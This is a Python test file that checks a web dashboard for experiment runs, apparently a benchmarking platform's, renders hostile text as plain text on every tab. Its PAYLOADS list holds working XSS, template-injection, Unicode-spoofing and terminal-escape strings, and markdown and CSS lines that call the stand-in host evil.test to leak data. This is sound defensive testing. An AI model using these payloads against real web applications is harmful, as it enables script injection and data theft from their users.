"""Text from models, users and files is shown, and nothing else: it runs nothing, loads nothing, leaves nothing."""

from __future__ import annotations

import time

import pytest
from console_world import settle

PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    '"><iframe srcdoc="<script>parent.__pwned=1</script>">',
    "javascript:window.__pwned=1",
    "![leak](http://evil.test/?q=secret)",
    "<link rel=stylesheet href=//evil.test/x.css><style>@import '//evil.test'</style>",
    "<math><mtext></p><style><img src=x onerror=__pwned=1></style>",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1}",
    "\u202egnp.exe\u202c \u200b\u2066zero\u2069",
    "\x1b[31mred\x1b]8;;http://evil.test\x07link",
    "__proto__",
]


@pytest.fixture(scope="module")
def hostile(world):
    """A run in which every text of the list, the header, the charts, the config and the log is hostile."""
    from benchmax.platform.store.runs import events, runs

    everything = " ".join(PAYLOADS)
    run = world.add_run(
        name=f"hostile {everything}"[:280],
        status="failed",
        reason=everything,
        tags=[text[:50] for text in PAYLOADS],
        args={text[:60]: text for text in PAYLOADS},
        paths={"env_cls_path": everything},
    )
    values = {f"reward_stats/{text}/reward/mean": 0.5 for text in PAYLOADS} | dict.fromkeys(PAYLOADS, 1.0)
    world.add_points(run, [(step, "train", time.time(), values | {"reward/mean": 0.1}) for step in (0, 1)], total=2)
    folder = world.data.run(run)
    folder.mkdir(parents=True, exist_ok=True)
    lines = [f"2026-11-15 06:00:00,000 ERROR x: {text}" for text in PAYLOADS]
    (folder / "child.log").write_text("\n".join(lines) + "\n")
    with world.database.write() as session:
        events.append(session, run, "trainer.alert", everything, category="alert", data={"step": 1})
        runs.get(session, run).notes = everything
        runs.get(session, run).activity = everything
    return run


@pytest.mark.parametrize("tab", ["", "train", "config", "logs", "checkpoints", "system", "eval"])
def test_hostile_text_is_only_text(open_page, world, hostile, tab):
    page = open_page(f"/experiments/{hostile}/{tab}" if tab else "/experiments")
    page.get_by_text("gnp.exe").first.wait_for()
    settle(page)
    if tab == "train":
        closed = page.locator(".fold-head[aria-expanded=false]")
        while closed.count():
            closed.first.click()
        page.locator(".chart").nth(12).wait_for()
    assert page.evaluate("window.__pwned") is None
    inside = "main script, main iframe, main object, main embed, main base, main meta, main link, main style, main img"
    assert page.locator(inside).count() == 0
    assert page.evaluate(
        "[...document.querySelectorAll('main *')].every(e => [...e.attributes].every(a => !a.name.startsWith('on')))"
    )
    assert page.locator("main a[href^='javascript']").count() == 0


def test_what_cannot_be_seen_gets_a_mark(open_page, hostile):
    page = open_page(f"/experiments/{hostile}/logs")
    page.locator(".log .hidden-mark", has_text="RLO").wait_for()
    page.locator(".log .hidden-mark", has_text="ESC").first.wait_for()
